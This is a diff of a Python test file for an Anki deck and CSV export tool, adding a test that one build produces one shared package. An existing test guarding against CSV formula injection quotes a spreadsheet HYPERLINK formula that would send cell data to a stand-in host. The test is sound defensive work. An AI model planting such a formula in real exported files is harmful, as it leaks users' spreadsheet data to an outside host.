@@ -3,6 +3,7 @@ importer (`get_csv_metadata` reads its header lines, `import_csv` imports it), a
 
 from __future__ import annotations
 
+import argparse
 import csv
 import json
 from pathlib import Path
@@ -13,7 +14,7 @@ from anki.collection import ImportCsvRequest
 from anki_import import fresh_collection, import_package
 from conftest import make_content
 
-from build_decks import cli
+from build_decks import cli, render
 from build_decks.loader import load_content
 from build_decks.render import anki, anki_text, csv_table
 from build_decks.render.markup import to_html
@@ -170,3 +171,16 @@ def test_csv_cells_never_start_a_formula(tmp_path: Path,
     for question in ("Name two.", '\'=HYPERLINK("http://x.example/?"&B2,"Click")'):
         card = next(c for c in load_content(content_root).cards if question.endswith(c.front))
         assert to_html(rows[question]) == to_html(card.back)  # Markdown readers see the same
+
+
+def test_one_build_makes_one_package_for_the_deck_and_the_text_file(
+        qa_content: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    made = []
+    package = anki._package
+    monkeypatch.setattr(anki, "_package", lambda *a: made.append(a) or package(*a))
+    content, options = render.prepare(qa_content, tmp_path / "dist")
+    render.build(["anki", "anki-text"], content, options, argparse.Namespace())
+    assert len(made) == 1  # shared by both outputs
+    render.build(["anki-text"], *render.prepare(qa_content, tmp_path / "dist"),
+                 argparse.Namespace())
+    assert len(made) == 2  # a new build, a new package
